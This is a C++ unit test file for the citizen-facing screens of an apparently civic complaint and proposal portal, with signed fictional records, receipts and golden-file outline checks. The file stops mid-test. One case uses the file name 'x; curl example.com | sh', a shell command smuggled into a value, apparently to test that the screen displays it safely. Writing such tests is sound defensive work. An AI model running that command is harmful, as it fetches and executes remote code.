#include <boost/test/unit_test.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>

#include "base/encoding.h"
#include "core/view/imgui/painted.h"
#include "crypto/seal.h"
#include "engine/engine.h"
#include "log/policy.h"
#include "log/proof.h"
#include "log/tlog_proof.h"
#include "log/tree.h"
#include "support/files.h"
#include "support/full_example.h"
#include "support/words.h"
#include "view/outline.h"
#include "view/qr.h"
#include "view/screens/citizen_parts.h"
#include "view/screens/screens.h"

using namespace trialog;
using namespace trialog::view;
using engine::Draft;
using engine::Sending;
using engine::SendingStatus;
using engine::State;
using test::test_key;

namespace {

const std::int64_t now_ms = 1795392000000;  // 23 November 2026
constexpr std::int64_t day = day_ms;

LocalizedText both(const std::string& english, const std::string& chinese) {
  return {{{"en", english}, {"zh-Hans", chinese}}};
}

RecordHeader header(const std::string& id, std::int64_t at_ms, const std::string& publisher,
                    const std::string& language = "en") {
  return {id, 1, std::string(no_previous_sha256), at_ms, publisher, language, {}};
}

// A small city whose records are really signed and whose logs are really made.
struct City {
  SigningKey root = test_key("root");
  SigningKey courts = test_key("courts");
  SigningKey housing = test_key("housing");
  SigningKey person = test_key("person");
  SigningKey neighbour = test_key("neighbour");
  SigningKey register_key = test_key("register log");
  SigningKey intake_key = test_key("intake log");
  std::shared_ptr<Register> records = std::make_shared<Register>(root.public_key());
  std::array<std::vector<Bytes>, 2> leaves;

  City() {
    certify(courts, "org-courts", both("Qinghe District Court", "青禾区人民法院"), true);
    certify(housing, "org-housing", both("Qinghe Housing Office", "青禾市住房保障中心"), true);
    certify(test_key("broadcasting"), "org-broadcasting", both("Qinghe Radio and Television", "青禾广播电视台"), false);
    Disclosure waiting_list;
    waiting_list.header = header("dsc-waiting-list", now_ms - 300 * day, "org-housing");
    waiting_list.name = both("Order of the housing waiting list", "住房轮候排序");
    waiting_list.organisation_name = "Qinghe Housing Office";
    put(LogName::register_log, sign_record(waiting_list, housing));
    propose("prp-open", both("Give reasons with every rejection", "每次拒绝都说明理由"), now_ms - 10 * day,
            now_ms + 20 * day);
    propose("prp-soon", both("Publish waiting times", "公布等待时间"), now_ms + 5 * day, now_ms + 35 * day);
    propose("prp-closed", both("Keep a telephone line", "保留电话服务"), now_ms - 90 * day, now_ms - 60 * day);
    propose("prp-withdrawn", both("Close the counter", "关闭窗口"), now_ms - 50 * day, now_ms + 50 * day);
    Tombstone tombstone;
    tombstone.header = header("tmb-1", now_ms - 40 * day, "org-courts");
    tombstone.target_id = "prp-withdrawn";
    tombstone.target_sha256 = hex(sha256(records->entry(records->find("prp-withdrawn")->latest()).leaf.payload()));
    tombstone.reason = WithdrawalReason::published_in_error;
    put(LogName::register_log, sign_record(tombstone, courts));

    stand(person, "prp-open", Choice::in_favour, now_ms - 3 * day);
    stand(neighbour, "prp-open", Choice::against, now_ms - 2 * day);
    stand(test_key("third"), "prp-open", Choice::in_favour, now_ms - day);
    stand(neighbour, "prp-closed", Choice::against, now_ms - 70 * day);

    Complaint late = complaint("cmp-late", now_ms - 45 * day);
    late.public_summary = "My place on the list fell by two hundred.\nNobody could tell me why.";
    put(LogName::intake_log, sign_record(late, neighbour));
    Complaint answered = complaint("cmp-answered", now_ms - 20 * day);
    answered.header.language = "zh-Hans";
    answered.public_summary = "申请被拒，没有写明理由。";
    put(LogName::intake_log, sign_record(answered, neighbour));
    reply("rpl-1", "cmp-answered", Outcome::acknowledged, now_ms - 18 * day);
    reply("rpl-2", "cmp-answered", Outcome::partly_upheld, now_ms - 8 * day);
    put(LogName::intake_log, sign_record(complaint("cmp-mine", now_ms - day), person));
  }

  void put(LogName log, const Result<Bytes>& leaf) {
    BOOST_TEST(leaf.has_value());
    const Result<void> taken = records->add(log, records->next_index(log), *leaf);
    BOOST_TEST((taken ? "taken" : std::string(name_of(taken.error().code))) == "taken");
    leaves[static_cast<std::size_t>(log)].push_back(*leaf);
  }
  void certify(const SigningKey& key, const std::string& id, const LocalizedText& name, bool receives) {
    Certificate certificate;
    certificate.header = header("crt-" + id, now_ms - 400 * day, "");
    certificate.subject_key = hex(key.public_key());
    certificate.role = Role::official;
    certificate.organisation_id = id;
    certificate.organisation_name = name;
    certificate.organisation_type = OrganisationType::agency;
    if (receives) certificate.sealing_key = hex(SealingKey(key.seed()).public_key());
    certificate.valid_from_ms = now_ms - 400 * day;
    certificate.valid_until_ms = now_ms + 400 * day;
    put(LogName::register_log, sign_record(certificate, root));
  }
  void propose(const std::string& id, const LocalizedText& title, std::int64_t opens_at_ms, std::int64_t closes_at_ms) {
    Proposal proposal;
    proposal.header = header(id, now_ms - 100 * day, "org-courts");
    proposal.title = title;
    proposal.summary = both("In two sentences.", "用两句话说明。");
    proposal.text = both("The first point.\n\nThe second point.", "第一点。\n\n第二点。");
    if (id != "prp-soon") proposal.effect = both("The council decides in spring.", "由议会在春季决定。");
    proposal.opens_at_ms = opens_at_ms;
    proposal.closes_at_ms = closes_at_ms;
    proposal.about_ids = {"dsc-waiting-list"};
    put(LogName::register_log, sign_record(proposal, courts));
  }
  Endorsement endorsement(const SigningKey& key, const std::string& proposal, Choice choice, std::int64_t at_ms) const {
    Endorsement record;
    record.header = header(endorsement_id(proposal, key.public_key()), at_ms, "");
    record.proposal_id = proposal;
    record.choice = choice;
    return record;
  }
  void stand(const SigningKey& key, const std::string& proposal, Choice choice, std::int64_t at_ms) {
    put(LogName::intake_log, sign_record(endorsement(key, proposal, choice, at_ms), key));
  }
  static ComplaintPrivate private_part(const std::string& id) {
    return {id,
            std::string(64, 'a'),
            "My place on the list",
            "It fell by two hundred.\nI was told nothing.",
            "2026-03-27",
            "H-118",
            "Wen",
            "wen@mail.example"};
  }
  static Complaint complaint(const std::string& id, std::int64_t at_ms) {
    Complaint record;
    record.header = header(id, at_ms, "");
    record.request_kind = RequestKind::explanation;
    record.about_type = AboutType::disclosure;
    record.about_id = "dsc-waiting-list";
    record.addressed_to = "org-housing";
    record.wanted = {Wanted::explanation, Wanted::correction};
    record.private_commitment = hex(*private_commitment(private_part(id)));
    record.sealed_sha256 = hex(sha256(as_bytes(id)));
    return record;
  }
  void reply(const std::string& id, const std::string& complaint_id, Outcome outcome, std::int64_t at_ms) {
    Reply record;
    record.header = header(id, at_ms, "org-housing");
    record.complaint_id = complaint_id;
    record.outcome = outcome;
    record.text = both("We looked at it.", "我们已经查看。");
    if (outcome != Outcome::acknowledged)
      record.next_steps = both("You can object within six weeks.", "您可在六周内提出异议。");
    put(LogName::register_log, sign_record(record, housing));
  }

  static std::string origin(LogName log) {
    return log == LogName::register_log ? "qinghe.example/register" : "qinghe.example/intake";
  }
  const SigningKey& log_key(LogName log) const { return log == LogName::register_log ? register_key : intake_key; }
  TreeAppender tree(LogName log) const {
    TreeAppender appender;
    for (const Bytes& leaf : leaves[static_cast<std::size_t>(log)]) appender.append(leaf_hash(leaf));
    return appender;
  }
  // A receipt of the intake log as it stands, with the leaf in its free line.
  std::string receipt(std::size_t index) const {
    TreeAppender appender = tree(LogName::intake_log);
    const std::uint64_t size = appender.size();
    const std::vector<Tile> tiles = appender.take_changed_tiles();
    const TileReader reader = [&](const TileId& id) -> Result<Bytes> {
      for (const Tile& tile : tiles) {
        if (tile.id.level == id.level && tile.id.index == id.index) return tile.bytes;
      }
      return Errc::not_found;
    };
    TlogProof proof;
    proof.extra = leaves[1][index];
    proof.index = index;
    proof.path = prove_inclusion(index, size, reader).value();
    const std::string name = origin(LogName::intake_log);
    proof.checkpoint = sign_note(format_checkpoint({name, size, appender.root()}), name, intake_key);
    return format_tlog_proof(proof);
  }

  State state(const std::string& address) const {
    State state;
    state.route = engine::parse_route(address).value();
    state.address = "https://qinghe.example";
    state.now_ms = now_ms;
    state.records = records;
    state.config.emplace();
    state.config->root_key = root.public_key();
    for (const LogName log : {LogName::register_log, LogName::intake_log}) {
      const auto i = static_cast<std::size_t>(log);
      state.config->logs[i] = {origin(log),
                               format_verifier_key(verifier_key_of(origin(log), log_key(log).public_key())), "/log"};
      const TreeAppender appender = tree(log);
      state.logs[i].phase = engine::SyncPhase::done;
      state.logs[i].checkpoint = Checkpoint{origin(log), appender.size(), appender.root()};
      state.logs[i].checked_at_ms = now_ms;
    }
    return state;
  }
};

const City& city() {
  static const City one;
  return one;
}

Draft full_draft() {
  Draft draft;
  draft.id = "cmp-draft";
  draft.changed_at_ms = now_ms - 60000;
  draft.request_kind = "contest";
  draft.about_type = "disclosure";
  draft.about_id = "dsc-waiting-list";
  draft.addressed_to = "org-housing";
  draft.wanted = {"policy_change", "explanation"};
  draft.title = "My place on the list";
  draft.text = "It fell by two hundred.\nI was told nothing.";
  draft.decided_year = "2026";
  draft.decided_month = "3";
  draft.decided_day = "27";
  draft.reference = "H-118";
  draft.name = "Wen";
  draft.publish_summary = true;
  draft.public_summary = "My place fell & nobody <could> tell me why.";
  return draft;
}

Sending complaint_sending(SendingStatus status) {
  const auto& leaves = city().leaves[1];
  Sending sending;
  sending.id = "cmp-mine";
  sending.signed_at_ms = now_ms - day;
  sending.status = status;
  sending.leaf = leaves.back();
  sending.about_id = "dsc-waiting-list";
  sending.title = "My place on the list";
  sending.private_json = as_text(encode_private(City::private_part("cmp-mine")).value());
  if (status == SendingStatus::sent) sending.receipt = city().receipt(leaves.size() - 1);
  return sending;
}

Sending vote_sending(std::int64_t revision, SendingStatus status) {
  const Endorsement record = city().endorsement(city().person, "prp-open", Choice::abstain, now_ms);
  Sending sending;
  sending.id = record.header.id;
  sending.revision = revision;
  sending.kind = Kind::endorsement;
  sending.signed_at_ms = now_ms - 1000;
  sending.status = status;
  sending.leaf = sign_record(record, city().person).value();
  sending.about_id = "prp-open";
  sending.title = "abstain";
  return sending;
}

using ScreenFunction = void (*)(Screen&, const State&);

Node record(const Words& words, ScreenFunction screen, const State& state) {
  Screen ui(words, {.key = "main", .title = "Title", .url = engine::format_route(state.route)});
  {
    const auto main = ui.main();
    screen(ui, state);
  }
  return ui.finish();
}

// Evidence is tested with the records' own pages.
void leave_out_evidence(Node& node) {
  for (Node& child : node.children) {
    if (child.key == "evidence") {
      child.text = {};
      child.children.clear();
    } else {
      leave_out_evidence(child);
    }
  }
}

void with_witnesses(State& state) {
  std::string text;
  for (const LogName log : {LogName::register_log, LogName::intake_log}) text += "log " + state.config->logs[static_cast<std::size_t>(log)].verifier_key + "\n";
  for (const std::string name : {"university", "newspaper", "chamber"}) {
    text += "witness " + name + " " + format_verifier_key(cosigner_key_of(name + ".example", test_key(name).public_key())) + "\n";
  }
  state.config->policy = parse_policy(text + "group all 2 university newspaper chamber\nquorum all\n").value();
}

// What the screen says of it needs no more than this.
engine::EvidenceItem evidence_item(const State& state, EvidenceKind kind) {
  engine::EvidenceItem item;
  item.id = std::string(word_of(kind)) + "-0123456789abcdef";
  item.found_at_ms = now_ms - 60000;
  item.evidence.kind = kind;
  item.evidence.log = parse_verifier_key(state.config->logs[1].verifier_key).value();
  item.evidence.index = 3;
  item.evidence.rule = Errc::invalid_signature;
  item.evidence.file = {false, 0, 1, 44};
  item.checkpoints = {*state.logs[1].checkpoint};
  if (kind == EvidenceKind::late_inclusion) item.lateness = Lateness{now_ms - 9 * day, now_ms - 2 * day};
  const bool has_two = kind != EvidenceKind::wrong_leaf && kind != EvidenceKind::wrong_tile;
  if (has_two) item.checkpoints.push_back({state.logs[1].checkpoint->origin, 7, sha256(as_bytes("another root"))});
  return item;
}

// The page that runs is this release, which the register names.
void run_release(State& state, engine::ReleaseStanding standing) {
  Release release;
  release.files = {{"core.wasm", std::string(64, 'a'), 1200000}, {"page.js", std::string(64, 'b'), 34000}};
  release.header = header(release_id(release_name(release.files)), now_ms - day, "");
  release.source = "commit 0123abcd";
  const auto records = std::make_shared<Register>(*state.records);
  const Bytes leaf = sign_record(release, city().root).value();
  BOOST_TEST(records->add(LogName::register_log, records->next_index(LogName::register_log), leaf).has_value());
  state.records = records;
  state.running_release.release = release_name(release.files);
  state.running_release.standing = standing;
  state.running_release.compared = 1;
  state.running_release.file = "page.js";
}

struct Case {
  std::string name;  // of the golden file
  ScreenFunction screen;
  std::string address;  // without the language
  std::function<void(State&)> change = [](State&) {};
};

std::vector<Case> cases() {
  const auto with_draft = [](State& state) { state.drafts = {full_draft()}; };
  const auto sent = [](SendingStatus status) {
    return [status](State& state) { state.sendings = {complaint_sending(status)}; };
  };
  const auto receipt_check = [](State& state) {
    const Sending sending = complaint_sending(SendingStatus::sent);
    const VerifiedLeaf& leaf = state.records->entry(state.records->find("cmp-mine")->latest()).leaf;
    engine::ReceiptCheck check;
    check.outcome = engine::CheckOutcome::valid;
    check.file_name = "cmp-mine.tlog-proof";
    const Receipt receipt = read_receipt(sending).value();
    check.origin = receipt.checkpoint.origin;
    check.index = receipt.index;
    check.size = receipt.checkpoint.size;
    check.root_base64 = base64(receipt.checkpoint.root);
    check.leaf_hash_hex = receipt.leaf_hash_hex;
    check.signer_hex = hex(leaf.signer());
    check.kind = leaf.kind();
    check.has_record = true;
    check.record_id = leaf.header().id;
    check.record_json = as_text(leaf.payload());
    check.published_at_ms = leaf.header().published_at_ms;
    check.known_here = true;
    return check;
  };
  const std::string leaf = hex(leaf_hash(city().leaves[1].back()));
  const std::string index = std::to_string(city().leaves[1].size() - 1);
  return {
      {"complain_origin", complain_screen, "complain?about=dsc-waiting-list",
       [](State& state) { state.host = engine::Host::origin; }},
      {"complain_1_empty", complain_screen, "complain?draft=cmp-draft&step=1",
       [](State& state) {
         Draft draft;
         draft.id = "cmp-draft";
         state.drafts = {draft};
       }},
      {"complain_1_errors", complain_screen, "complain?draft=cmp-draft&step=1",
       [](State& state) {
         Draft draft;
         draft.id = "cmp-draft";
         state.drafts = {draft};
         state.field_errors = engine::check_draft(draft, 1);
       }},
      {"complain_1", complain_screen, "complain?draft=cmp-draft&step=1", with_draft},
      {"complain_2_errors", complain_screen, "complain?draft=cmp-draft&step=2",
       [](State& state) {
         Draft draft = full_draft();
         draft.title.clear();
         draft.text = std::string(4001, 'x');
         draft.decided_month = "13";
         state.drafts = {draft};
         state.field_errors = engine::check_draft(draft, 2);
         state.storage_problem = Error{Errc::device_full, {}};
       }},
      {"complain_3", complain_screen, "complain?draft=cmp-draft&step=3", with_draft},
      {"complain_4", complain_screen, "complain?draft=cmp-draft&step=4", with_draft},
      {"complain_4_incomplete", complain_screen, "complain?draft=cmp-draft&step=4",
       [](State& state) {
         Draft draft;
         draft.id = "cmp-draft";
         state.drafts = {draft};
         state.online = false;
       }},
      {"sent", complain_screen, "complain?sent=cmp-mine", sent(SendingStatus::sent)},
      {"sent_waiting", complain_screen, "complain?sent=cmp-mine",
       [](State& state) {
         state.sendings = {complaint_sending(SendingStatus::waiting)};
         state.sendings[0].error = Error{Errc::network_failed, "/submit"};
         state.online = false;
       }},
      {"sent_refused", complain_screen, "complain?sent=cmp-mine",
       [](State& state) {
         state.sendings = {complaint_sending(SendingStatus::refused)};
         state.sendings[0].error = Error{Errc::clock_off, "header.published_at_ms"};
       }},
      {"sent_unknown", complain_screen, "complain?sent=cmp-elsewhere"},
      {"complaints", complaints_screen, "complaints"},
      {"complaints_none", complaints_screen, "complaints?about=dsc-other"},
      {"complaint_answered", complaint_screen, "complaints/cmp-answered"},
      {"complaint_late", complaint_screen, "complaints/cmp-late",
       [](State& state) { state.host = engine::Host::origin; }},
      {"complaint_mine", complaint_screen, "complaints/cmp-mine", sent(SendingStatus::sent)},
      {"complaint_missing", complaint_screen, "complaints/cmp-none"},
      {"proposals", proposals_screen, "proposals"},
      {"proposal_open", proposal_screen, "proposals/prp-open"},
      {"proposal_open_origin", proposal_screen, "proposals/prp-open",
       [](State& state) { state.host = engine::Host::origin; }},
      {"proposal_open_error", proposal_screen, "proposals/prp-open",
       [](State& state) {
         state.field_errors = {{"choice", Errc::missing_field}};
       }},
      {"proposal_voted", proposal_screen, "proposals/prp-open",
       [](State& state) {
         state.device_key = city().person.public_key();
         state.sendings = {vote_sending(2, SendingStatus::waiting)};
       }},
      {"proposal_soon", proposal_screen, "proposals/prp-soon"},
      {"proposal_closed", proposal_screen, "proposals/prp-closed"},
      {"proposal_withdrawn", proposal_screen, "proposals/prp-withdrawn"},
      {"mine_empty", mine_screen, "mine"},
      {"mine_origin", mine_screen, "mine", [](State& state) { state.host = engine::Host::origin; }},
      {"mine", mine_screen, "mine",
       [](State& state) {
         Draft untouched;
         untouched.id = "cmp-untouched";
         state.drafts = {full_draft(), untouched};
         state.sendings = {vote_sending(2, SendingStatus::waiting), vote_sending(1, SendingStatus::sent),
                           complaint_sending(SendingStatus::sent)};
         state.device_key = city().person.public_key();
         engine::ReceiptCheck check;
         check.outcome = engine::CheckOutcome::valid;
         check.index = 6;
         check.known_here = true;
         state.receipt_checks["cmp-mine"] = check;
       }},
      {"verify", verify_screen, "verify"},
      {"verify_origin", verify_screen, "verify", [](State& state) { state.host = engine::Host::origin; }},
      {"verify_valid", verify_screen, "verify", [=](State& state) { state.receipt_check = receipt_check(state); }},
      {"verify_beyond_copy", verify_screen, "verify",
       [=](State& state) {
         state.receipt_check = receipt_check(state);
         state.receipt_check->known_here = false;
         state.logs[1].checkpoint->size = 2;
       }},
      {"verify_other_history", verify_screen, "verify",
       [=](State& state) {
         state.receipt_check = receipt_check(state);
         state.receipt_check->known_here = false;
       }},
      {"verify_invalid", verify_screen, "verify",
       [](State& state) {
         engine::ReceiptCheck check;
         check.outcome = engine::CheckOutcome::invalid;
         check.error = Error{Errc::inclusion_failed, "path"};
         check.file_name = "cmp-mine.tlog-proof";
         state.receipt_check = check;
       }},
      {"sent_without_witnesses", complain_screen, "complain?sent=cmp-mine",
       [=](State& state) {
         sent(SendingStatus::sent)(state);
         with_witnesses(state);
       }},
      {"sent_strengthened", complain_screen, "complain?sent=cmp-mine",
       [=](State& state) {
         sent(SendingStatus::sent)(state);
         with_witnesses(state);
         state.sendings[0].witnesses = {"university", "chamber"};
         state.sendings[0].has_quorum = true;
         state.sendings[0].strengthened_at_ms = now_ms - 1000;
       }},
      {"sent_lost", complain_screen, "complain?sent=cmp-mine",
       [=](State& state) {
         sent(SendingStatus::sent)(state);
         state.sendings[0].is_lost = true;
       }},
      {"mine_witnesses", mine_screen, "mine",
       [=](State& state) {
         sent(SendingStatus::sent)(state);
         with_witnesses(state);
         state.sendings[0].witnesses = {"university"};
         state.sendings[0].strengthened_at_ms = now_ms - 1000;
         state.sendings[0].is_lost = true;
       }},
      {"verify_witnesses", verify_screen, "verify",
       [=](State& state) {
         with_witnesses(state);
         state.receipt_check = receipt_check(state);
         state.receipt_check->witnesses = {"newspaper"};
       }},
      {"verify_evidence", verify_screen, "verify",
       [](State& state) {
         for (const EvidenceKind kind : {EvidenceKind::split_view, EvidenceKind::inconsistent, EvidenceKind::lost_receipt, EvidenceKind::rewound,
                                         EvidenceKind::wrong_leaf, EvidenceKind::wrong_tile, EvidenceKind::late_inclusion}) {
           state.evidence.push_back(evidence_item(state, kind));
         }
         state.discarding = state.evidence.back().id;
       }},
      {"verify_evidence_file", verify_screen, "verify",
       [](State& state) {
         state.evidence_check.emplace();
         state.evidence_check->file_name = "from-a-friend.evidence";
         state.evidence_check->item = evidence_item(state, EvidenceKind::split_view);
         state.evidence_check->item.found_at_ms = 0;
       }},
      {"verify_evidence_told", verify_screen, "verify",
       [](State& state) {
         state.evidence_check.emplace();
         state.evidence_check->file_name = "x; curl example.com | sh";
         state.evidence_check->item = evidence_item(state, EvidenceKind::rewound);
         state.evidence_check->item.found_at_ms = 0;
       }},
      {"verify_evidence_refused", verify_screen, "verify",
       [](State& state) {
         state.evidence_check.emplace();
         state.evidence_check->file_name = "from-a-friend.evidence";
         state.evidence_check->error = Error{Errc::evidence_failed, "hash"};
       }},
      {"verify_evidence_undecided", verify_screen, "verify",
       [](State& state) {
         state.evidence_check.emplace();
         state.evidence_check->file_name = "from-a-friend.evidence";
         state.evidence_check->error = Error{Errc::evidence_incomplete, "rule"};
       }},
      {"verify_compare_same", verify_screen, "verify",
       [](State& state) {
         state.typed_code = "0A3D7 00012";
         state.code_check.outcome = engine::Comparison::same;
         state.code_check.size = 5;
       }},
      {"verify_compare_different", verify_screen, "verify",
       [](State& state) {
         state.code_check.outcome = engine::Comparison::different;
         state.code_check.log = LogName::intake_log;
         state.code_check.size = 6;
       }},
      {"verify_compare_newer", verify_screen, "verify",
       [](State& state) {
         state.code_check.outcome = engine::Comparison::newer;
         state.code_check.size = 1800;
       }},
      {"verify_compare_mistyped", verify_screen, "verify",
       [](State& state) {
         state.typed_code = "0A3D7 00012";
         state.code_check.outcome = engine::Comparison::unreadable;
       }},
      {"verify_compare_unchecked", verify_screen, "verify",
       [](State& state) {
         state.logs[1].checkpoint.reset();
         state.code_check.outcome = engine::Comparison::other_portal;
       }},
      {"verify_checkpoint_same", verify_screen, "verify",
       [](State& state) {
         state.checkpoint_check.emplace();
         state.checkpoint_check->file_name = "intake-6.checkpoint";
         state.checkpoint_check->outcome = engine::Comparison::same;
         state.checkpoint_check->log = LogName::intake_log;
         state.checkpoint_check->size = 6;
       }},
      {"verify_checkpoint_newer", verify_screen, "verify",
       [](State& state) {
         state.checkpoint_check.emplace();
         state.checkpoint_check->outcome = engine::Comparison::newer;
         state.checkpoint_check->size = 1800;
       }},
      {"verify_checkpoint_different", verify_screen, "verify",
       [](State& state) {
         state.checkpoint_check.emplace();
         state.checkpoint_check->outcome = engine::Comparison::different;
         state.evidence.push_back(evidence_item(state, EvidenceKind::inconsistent));
       }},
      {"verify_checkpoint_refused", verify_screen, "verify",
       [](State& state) {
         state.checkpoint_check.emplace();
         state.checkpoint_check->outcome = engine::Comparison::unreadable;
         state.checkpoint_check->error = Error{Errc::invalid_signature, {}};
       }},
      {"verify_release", verify_screen, "verify", [](State& state) { run_release(state, engine::ReleaseStanding::equal); }},
      {"verify_release_comparing", verify_screen, "verify",
       [](State& state) {
         run_release(state, engine::ReleaseStanding::comparing);
         state.running_release.compared = 1;
       }},
      {"verify_release_refused", verify_screen, "verify",
       [](State& state) {
         run_release(state, engine::ReleaseStanding::listed);
         state.offered_release = engine::ReleaseCheck{"fedcba9876543210", engine::ReleaseStanding::different, {}, 1, "page.js"};
         state.is_keeper_replaced = true;
       }},
      {"verify_release_missing", verify_screen, "verify",
       [](State& state) {
         state.running_release.release = "fedcba9876543210";
         state.running_release.standing = engine::ReleaseStanding::missing;
         state.offered_release = engine::ReleaseCheck{"0123456789abcdef", engine::ReleaseStanding::equal, {}, 2, {}};
         state.is_offer_taken = true;
       }},
      {"verify_code", verify_screen, "verify?log=intake&index=" + index + "&leaf=" + leaf},
      {"verify_code_differs", verify_screen, "verify?log=intake&index=0&leaf=" + leaf},
      {"verify_code_beyond", verify_screen, "verify?log=intake&index=900&leaf=" + leaf},
      {"verify_code_malformed", verify_screen, "verify?log=intake&index=-1&leaf=12"},
  };
}

}  // namespace

BOOST_AUTO_TEST_SUITE(screens_citizen)

BOOST_AUTO_TEST_CASE(every_standing_of_a_release_has_its_words) {
  using engine::ReleaseStanding;
  for (const std::string route_language : {"en", "zh"}) {
    const Words words = test::words(std::string(engine::language_tag(route_language)));
    for (int standing = 0; standing <= static_cast<int>(ReleaseStanding::unreachable); ++standing) {
      State state = city().state("/" + route_language + "/verify");
      run_release(state, static_cast<ReleaseStanding>(standing));
      state.offered_release = engine::ReleaseCheck{"fedcba9876543210", static_cast<ReleaseStanding>(standing), {}, 0, "page.js"};
      const std::string text = outline(render_screen(state, words));
      BOOST_TEST(text.find("\"release.") == std::string::npos, text);
    }
  }
}

// TRIALOG_WRITE_OUTLINES=1 writes the files anew, to be read through before they are kept.
BOOST_AUTO_TEST_CASE(every_screen_and_state_reads_as_its_outline_in_both_languages) {
  const std::filesystem::path folder = test::root() / "tests/core/view/outlines";
  const bool write = std::getenv("TRIALOG_WRITE_OUTLINES") != nullptr;
  for (const std::string route_language : {"en", "zh"}) {
    const Words words = test::words(std::string(engine::language_tag(route_language)));
    for (const Case& one : cases()) {
      State state = city().state("/" + route_language + "/" + one.address);
      one.change(state);
      Node tree = record(words, one.screen, state);
      const std::string name = "citizen_" + one.name + "." + words.language() + ".txt";
      BOOST_TEST_CONTEXT(name) {
        for (const std::string& problem : problems(tree)) BOOST_TEST(problem == "");
        test::check_painted(tree);
        leave_out_evidence(tree);
        if (write) std::ofstream(folder / name, std::ios::binary) << outline(tree);
        BOOST_TEST(outline(tree) == test::read_file(folder / name));
      }
    }
  }
}

BOOST_AUTO_TEST_CASE(the_preview_shows_exactly_what_is_signed) {
  const Words words = test::words("en");
  State state = city().state("/en/complain?draft=cmp-draft&step=4");
  state.drafts = {full_draft()};
  const Node tree = record(words, complain_screen, state);
  const engine::ComplaintParts parts = engine::parts_of_draft(state.drafts[0]);
  const Node* exact = find_node(tree, "main/form/public/exact/json");
  BOOST_TEST((exact != nullptr));
  if (exact != nullptr) BOOST_TEST(exact->value == as_text(encode_record(parts.complaint).value()));
  const Node* text = find_node(tree, "main/form/private/fields/text");
  BOOST_TEST((text != nullptr && text->children.size() == 3U));
  // No private word stands in the public box.
  const Node* box = find_node(tree, "main/form/public");
  BOOST_TEST((box != nullptr));
  if (box == nullptr) return;
  for (const std::string& hidden :
       {parts.private_part.title, *parts.private_part.name, *parts.private_part.reference}) {
    BOOST_TEST(outline(*box).find(hidden) == std::string::npos);
  }
}

BOOST_AUTO_TEST_CASE(every_error_of_a_draft_stands_beside_its_field_and_in_the_summary) {
  const Words words = test::words("zh-Hans");
  State state = city().state("/zh/complain?draft=cmp-draft&step=2");
  Draft draft = full_draft();
  draft.title.clear();
  draft.decided_day = "31";
  draft.decided_month = "2";
  state.drafts = {draft};
  state.field_errors = engine::check_draft(draft, 2);
  const Node tree = record(words, complain_screen, state);
  for (const std::string field : {"title", "decided_on"}) {
    const Node* node = find_node(tree, "main/form/" + field);
    BOOST_TEST((node != nullptr && !node->error.empty()));
    BOOST_TEST((find_node(tree, "main/errors/main/form/" + field) != nullptr));
  }
  BOOST_TEST(find_node(tree, "main/form/text")->error.empty());
}

BOOST_AUTO_TEST_CASE(a_complaint_is_answered_by_the_body_it_is_addressed_to_only) {
  City other;
  Reply stranger;
  stranger.header = header("rpl-stranger", now_ms - day, "org-courts");
  stranger.complaint_id = "cmp-late";
  stranger.outcome = Outcome::upheld;
  stranger.text = both("Not ours to say.", "不归我们管。");
  other.put(LogName::register_log, sign_record(stranger, other.courts));
  const State state = other.state("/en/complaints/cmp-late");
  const ComplaintProgress late = complaint_progress(state, **state.records->open<Complaint>("cmp-late"));
  BOOST_TEST((late.stage == ComplaintStage::open));
  BOOST_TEST(late.late);
  BOOST_TEST(late.days == 45);
  const ComplaintProgress answered = complaint_progress(state, **state.records->open<Complaint>("cmp-answered"));
  BOOST_TEST((answered.stage == ComplaintStage::answered));
  BOOST_TEST((answered.outcome == Outcome::partly_upheld));
  BOOST_TEST(answered.days == 12);
}

BOOST_AUTO_TEST_CASE(the_receipts_address_leads_to_the_check_of_that_leaf) {
  const State state = city().state("/zh/complain?sent=cmp-mine");
  const Receipt receipt = read_receipt(complaint_sending(SendingStatus::sent)).value();
  const std::string address = verify_href(state, LogName::intake_log, receipt.index, receipt.leaf_hash_hex);
  const std::optional<engine::Route> route = engine::parse_route(address);
  BOOST_TEST((route && route->page == engine::Page::verify));
  BOOST_TEST(route->parameter("log") == "intake");
  BOOST_TEST(route->parameter("index") == "6");
  BOOST_TEST(route->parameter("leaf") == hex(leaf_hash(city().leaves[1][6])));
}

BOOST_AUTO_TEST_CASE(a_receipt_has_no_code_while_the_portals_own_address_is_not_known) {
  const Words words = test::words("en");
  State state = city().state("/en/complain?sent=cmp-mine");
  state.sendings = {complaint_sending(SendingStatus::sent)};
  BOOST_TEST((find_node(record(words, complain_screen, state), "main/receipt/code") != nullptr));
  state.address.clear();
  BOOST_TEST((find_node(record(words, complain_screen, state), "main/receipt/code") == nullptr));
}

BOOST_AUTO_TEST_CASE(a_code_holds_the_longest_text_it_promises_and_no_more) {
  const Result<Modules> longest = qr_code(std::string(max_qr_bytes, 'x'));
  BOOST_TEST((longest && longest->size == 77));
  const Result<Modules> over = qr_code(std::string(max_qr_bytes + 1, 'x'));
  BOOST_TEST((!over && over.error().code == Errc::too_large));
  const Result<Modules> zero = qr_code(std::string_view("a\0b", 3));
  BOOST_TEST((!zero && zero.error().code == Errc::invalid_text));
}

#ifndef __EMSCRIPTEN__
// A second opinion by a reader that we did not write.
BOOST_AUTO_TEST_CASE(a_code_reads_as_its_text_in_another_program) {
  if (std::system("command -v zbarimg >/dev/null 2>&1") != 0) {
    std::cout << "skipped: zbarimg (Debian: zbar-tools) is not installed\n";
    return;
  }
  const std::filesystem::path folder =
      std::filesystem::temp_directory_path() / ("trialog-qr-" + hex(Secret<8>::random().view()));
  std::filesystem::create_directories(folder);
  const std::string leaf(64, 'd');
  const std::string address = "https://qinghe.example/zh/verify?log=intake&index=9007199254740991&leaf=" + leaf;
  for (const std::string& text : {address, std::string("HELLO 123"), std::string(max_qr_bytes, 'q')}) {
    const Modules modules = qr_code(text).value();
    constexpr int quiet = 4, scale = 4;
    const int side = (modules.size + 2 * quiet) * scale;
    std::ofstream image(folder / "code.pgm", std::ios::binary);
    image << "P5\n" << side << ' ' << side << "\n255\n";
    for (int y = 0; y < side; ++y) {
      for (int x = 0; x < side; ++x) {
        const int column = x / scale - quiet, line = y / scale - quiet;
        const bool inside = column >= 0 && line >= 0 && column < modules.size && line < modules.size;
        const bool dark = inside && modules.dark[static_cast<std::size_t>(line * modules.size + column)];
        image.put(dark ? '\0' : '\xff');
      }
    }
    image.close();
    const std::string command =
        "zbarimg --quiet --raw --nodbus " + (folder / "code.pgm").string() + " >" + (folder / "text").string();
    BOOST_TEST(std::system(command.c_str()) == 0);
